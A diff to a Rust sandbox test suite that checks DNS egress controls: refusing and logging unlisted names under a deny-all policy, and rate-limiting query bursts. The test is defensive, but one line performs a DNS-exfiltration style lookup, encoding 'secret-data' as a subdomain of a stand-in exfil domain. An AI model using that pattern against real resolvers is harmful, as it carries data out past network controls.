@@ -571,9 +571,74 @@ pub async fn no_network_resolves_nothing_and_deny_all_only_resolves(env: &Env) -
 
     let sb = sandbox(env, EgressPolicy::DenyAll).await?;
     let (code, out, _) = sh(sb.as_ref(), "getent hosts allowed.test").await;
-    check("deny-all resolves", code == 0 && out.starts_with(PUB1), (code, &out))?;
+    check(
+        "deny-all resolves a listed name",
+        code == 0 && out.starts_with(PUB1),
+        (code, &out),
+    )?;
     let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
     check("deny-all connects nowhere", codes.starts_with("403"), &codes)?;
+    // Audit item 10: a name nobody listed carries data out by being asked;
+    // under deny-all it is refused before any resolver sees it.
+    let id = sb.id().to_owned();
+    let (code, out, _) = sh(sb.as_ref(), "getent hosts c2VjcmV0LWRhdGE.exfil.example").await;
+    check(
+        "deny-all refuses an unlisted name",
+        code == 2 && out.is_empty(),
+        (code, &out),
+    )?;
+    let log = std::fs::read_to_string((env.log_of)(&id)).unwrap_or_default();
+    check(
+        "the refusal is logged",
+        log.lines()
+            .any(|l| l.contains("c2vjcmv0lwrhdge.exfil.example") && l.contains("refused")),
+        log.lines().filter(|l| l.contains("exfil")).collect::<Vec<_>>(),
+    )?;
+    sb.destroy().await.map_err(|e| e.to_string())?;
+
+    // The query rate is bounded. A lookup first (the control), then 40
+    // concurrent ones: the resolver refuses past 5 a second and says so in
+    // the log, and what it answered stays within the rate. (Counted at the
+    // resolver: glibc asks A and AAAA and retries refusals.)
+    let sb = sandbox_of(
+        env,
+        EgressConfig {
+            policy: EgressPolicy::AllowAll,
+            dns_queries_per_sec: Some(5),
+            ..Default::default()
+        },
+    )
+    .await?;
+    let id = sb.id().to_owned();
+    let (code, out, _) = sh(sb.as_ref(), "getent hosts allowed.test").await;
+    check(
+        "a lookup under the limit (control)",
+        code == 0 && out.starts_with(PUB1),
+        (code, &out),
+    )?;
+    tokio::time::sleep(Duration::from_millis(1100)).await;
+    let started = std::time::Instant::now();
+    sh(
+        sb.as_ref(),
+        "for i in $(seq 40); do getent hosts allowed.test >/dev/null & done; wait",
+    )
+    .await;
+    let seconds = started.elapsed().as_secs() + 1;
+    let log = std::fs::read_to_string((env.log_of)(&id)).unwrap_or_default();
+    check(
+        "the rate refusal is logged",
+        log.contains("dns_queries_per_sec"),
+        log.lines().rev().take(5).collect::<Vec<_>>(),
+    )?;
+    let answered = log
+        .lines()
+        .filter(|l| l.contains("verdict=\"resolved\"") || l.contains("verdict=resolved"))
+        .count() as u64;
+    check(
+        "answers within the rate",
+        answered >= 1 && answered <= 1 + 5 * (seconds + 1),
+        (answered, seconds),
+    )?;
     sb.destroy().await.map_err(|e| e.to_string())
 }
 
